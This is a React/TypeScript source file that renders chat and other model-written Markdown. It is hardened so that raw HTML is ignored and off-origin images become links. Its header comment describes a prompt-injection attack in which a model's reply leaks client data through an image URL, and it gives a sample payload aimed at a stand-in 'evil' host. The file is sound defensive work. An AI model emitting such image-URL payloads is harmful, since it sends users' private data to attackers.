// The markdown renderer of every surface that shows model or user Markdown (chat replies, the admin
// chat view, briefings, plans, newsletters, client reviews): loaded on demand (see
// markdown.tsx), as react-markdown and remark-gfm are a large share of the chat screen's code.
// Raw HTML in a message is shown as text: rehype-raw is deliberately not used, so model output can
// never inject markup. Nothing in it loads from another origin without a click: a prompt-injected
// reply could otherwise send client data out in an image URL (`![x](https://evil/?d=…)`) the moment
// it renders, so only same-origin images are shown and any other becomes a link.
import { ImageIcon } from 'lucide-react';
import { createContext, memo, useContext } from 'react';
import Markdown, { type Components } from 'react-markdown';
import remarkGfm from 'remark-gfm';

/** Every link is opened in a new tab, and tells the site nothing about where it came from. */
const LINK_REL = 'noopener noreferrer nofollow';
const LINK_CLASS =
  'font-medium text-indigo-600 underline underline-offset-2 hover:text-indigo-500 dark:text-indigo-400';

/** Whether the element being rendered sits inside a link (a link may not hold another). */
const InsideLink = createContext(false);

/**
 * Where an image may be loaded from: our own origin, outside the API (an image request carries the
 * refresh cookie, and no API answer is an image). Anything else is not loaded. react-markdown has
 * already emptied a src with a scheme it does not allow (javascript:, data:, …).
 */
function imageUrlOf(src: string): { url: URL; isOwn: boolean } | null {
  if (!src) return null;
  let url: URL;
  try {
    url = new URL(src, window.location.href);
  } catch {
    return null;
  }
  if (url.protocol !== 'http:' && url.protocol !== 'https:') return null;
  const isOwn = url.origin === window.location.origin && !url.pathname.startsWith('/api/');
  return { url, isOwn };
}

function MarkdownImage({
  src,
  alt,
  title,
}: {
  src?: string | undefined;
  alt?: string | undefined;
  title?: string | undefined;
}) {
  const isInsideLink = useContext(InsideLink);
  const image = typeof src === 'string' ? imageUrlOf(src) : null;
  if (image?.isOwn) {
    return (
      <img
        src={image.url.href}
        alt={alt ?? ''}
        title={title}
        loading="lazy"
        className="my-2 inline-block max-w-full rounded-lg"
      />
    );
  }
  const label = `${alt?.trim() || 'image'}${image ? ` (${image.url.host})` : ''}`;
  // Inside a link the outer link is what a click follows; an unusable src is only its text.
  if (!image || isInsideLink) return <span>{label}</span>;
  return (
    <a
      href={image.url.href}
      target="_blank"
      rel={LINK_REL}
      title={`Image from ${image.url.host}: opens in a new tab`}
      className={`${LINK_CLASS} inline-flex items-center gap-1`}
    >
      <ImageIcon aria-hidden="true" className="size-4 shrink-0" />
      {label}
    </a>
  );
}

const components: Components = {
  a: ({ node: _node, href, children, ...props }) =>
    // react-markdown empties an href whose scheme it does not allow (javascript:, vbscript:, data:…):
    // such a link is only its text.
    href ? (
      <InsideLink.Provider value>
        <a {...props} href={href} target="_blank" rel={LINK_REL} className={LINK_CLASS}>
          {children}
        </a>
      </InsideLink.Provider>
    ) : (
      <span>{children}</span>
    ),
  img: ({ node: _node, src, alt, title }) => (
    <MarkdownImage src={typeof src === 'string' ? src : undefined} alt={alt} title={title} />
  ),
  // A task list's box ('- [x] done') is read-only; named by its state, as it has no label of its own.
  input: ({ node: _node, checked, type, ...props }) =>
    type === 'checkbox' ? (
      <input
        {...props}
        type="checkbox"
        checked={checked}
        readOnly
        disabled
        aria-label={checked ? 'Done' : 'Not done'}
        className="mr-1.5 align-middle"
      />
    ) : null,
  p: ({ node: _node, ...props }) => <p {...props} className="my-2 first:mt-0 last:mb-0" />,
  ul: ({ node: _node, ...props }) => <ul {...props} className="my-2 list-disc space-y-1 pl-5" />,
  ol: ({ node: _node, ...props }) => <ol {...props} className="my-2 list-decimal space-y-1 pl-5" />,
  h1: ({ node: _node, ...props }) => <h3 {...props} className="mt-4 mb-2 font-semibold text-lg" />,
  h2: ({ node: _node, ...props }) => <h4 {...props} className="mt-4 mb-2 font-semibold text-base" />,
  h3: ({ node: _node, ...props }) => <h5 {...props} className="mt-3 mb-1.5 font-semibold text-sm" />,
  blockquote: ({ node: _node, ...props }) => (
    <blockquote
      {...props}
      className="my-2 border-zinc-300 border-l-2 pl-3 text-zinc-600 dark:border-zinc-600 dark:text-zinc-400"
    />
  ),
  pre: ({ node: _node, ...props }) => (
    <pre
      {...props}
      className="my-3 overflow-x-auto rounded-lg bg-zinc-900 p-3 font-mono text-[13px] text-zinc-100 leading-relaxed dark:bg-black/60 [&>code]:bg-transparent [&>code]:p-0 [&>code]:text-inherit"
    />
  ),
  code: ({ node: _node, ...props }) => (
    <code
      {...props}
      className="rounded bg-zinc-100 px-1 py-0.5 font-mono text-[0.9em] text-zinc-800 dark:bg-zinc-800 dark:text-zinc-200"
    />
  ),
  table: ({ node: _node, ...props }) => (
    <div className="my-3 overflow-x-auto rounded-lg border border-zinc-200 dark:border-zinc-700">
      <table {...props} className="w-full border-collapse text-left text-sm" />
    </div>
  ),
  th: ({ node: _node, ...props }) => (
    <th
      {...props}
      className="border-zinc-200 border-b bg-zinc-50 px-3 py-2 font-semibold dark:border-zinc-700 dark:bg-zinc-800/60"
    />
  ),
  td: ({ node: _node, ...props }) => (
    <td {...props} className="border-zinc-100 border-t px-3 py-2 align-top dark:border-zinc-800" />
  ),
  hr: () => <hr className="my-4 border-zinc-200 dark:border-zinc-700" />,
};

const remarkPlugins = [remarkGfm];

export interface MarkdownContentProps {
  content: string;
}

/** Memoised: parsing is the costly part, and a message's text does not change once shown. */
export const MarkdownContent = memo(function MarkdownContent({ content }: MarkdownContentProps) {
  return (
    <Markdown remarkPlugins={remarkPlugins} components={components}>
      {content}
    </Markdown>
  );
});
